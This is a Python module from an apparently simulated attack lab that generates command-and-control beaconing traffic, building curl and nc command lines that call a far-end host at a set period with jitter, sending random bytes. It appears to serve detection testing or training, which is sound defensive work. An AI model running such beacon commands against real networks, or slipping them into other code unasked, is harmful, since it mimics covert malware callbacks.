# SPDX-License-Identifier: Apache-2.0
"""Calls home with a period and jitter, by curl and nc: short requests from a client to one far end."""

from __future__ import annotations

from random import Random

from lab.scenarios.attack.targets import far_end, ip_version
from lab.scenarios.scenario import TCP, Attack, AttackDraft, Scene
from lab.services import sink


def _pauses(chance: Random) -> tuple[list[float], str]:
    """Pauses between calls: a period with jitter; up to 100 s in all."""
    period, jitter = chance.choice((1.5, 3.0, 5.0, 8.0)), chance.choice((0.0, 0.05, 0.2, 0.4))
    calls = int(min(max(100 / period, 6), 30))
    return [
        max(0.2, period * (1 + jitter * chance.uniform(-1, 1))) for _ in range(calls)
    ], f"period={period}s; jitter={jitter}"


def _limit(pauses: list[float]) -> int:
    return int(sum(pauses)) + len(pauses) // 2 + 10


def over_http(scene: Scene, chance: Random) -> AttackDraft | None:
    end = far_end(scene, chance, "webapp")
    if end is None:
        return None
    tls, version = chance.random() < 0.6, ip_version(chance)
    pauses, technique = _pauses(chance)
    url = scene.url(end, tls, "/app/task", version)
    body = f"-d '{'b' * chance.randint(10, 200)}'" if chance.random() < 0.4 else ""
    lines = [f"curl -g -k -s -o /dev/null --max-time 6 {body} '{url}'; sleep {pause:.2f}" for pause in pauses]
    port = scene.network.tls_port if tls else scene.network.web_port
    return AttackDraft(
        "beacon",
        "curl",
        f"http{'s' if tls else ''}; {technique}",
        "\n".join(lines),
        _limit(pauses),
        (scene.leg(end, version, TCP, port),),
    )


def over_tcp(scene: Scene, chance: Random) -> AttackDraft | None:
    end = far_end(scene, chance, "sink")
    if end is None:
        return None
    pauses, technique = _pauses(chance)
    version, port = ip_version(chance), chance.choice(sink.PORTS)
    lines = [
        f"head -c {chance.randint(16, 120)} /dev/urandom | nc -N -w 3 {scene.address(end, version)} {port}; sleep {pause:.2f}"
        for pause in pauses
    ]
    return AttackDraft(
        "beacon", "nc", f"tcp; {technique}", "\n".join(lines), _limit(pauses), (scene.leg(end, version, TCP, port),)
    )


ATTACKS = (
    Attack("beacon-http", over_http, inside=True, weight=4),
    Attack("beacon-tcp", over_tcp, inside=True, weight=2),
)
